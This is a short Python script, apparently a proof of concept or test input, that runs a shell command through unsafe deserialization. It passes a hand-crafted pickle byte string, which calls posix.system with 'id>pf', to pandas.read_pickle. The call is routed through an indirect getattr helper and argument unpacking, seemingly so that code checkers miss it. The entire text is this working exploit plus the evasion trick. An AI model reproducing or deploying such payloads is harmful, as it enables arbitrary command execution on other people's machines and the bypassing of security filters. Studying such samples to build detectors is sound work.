import pandas as pd, io
s = pd.Series(*[[1]])

def call(o, name, *a):
    return getattr(*[o, name])(*a)
call(*[pd, 'read_pickle', io.BytesIO(*[b"cposix\nsystem\n(S'id>pf'\ntR."])])
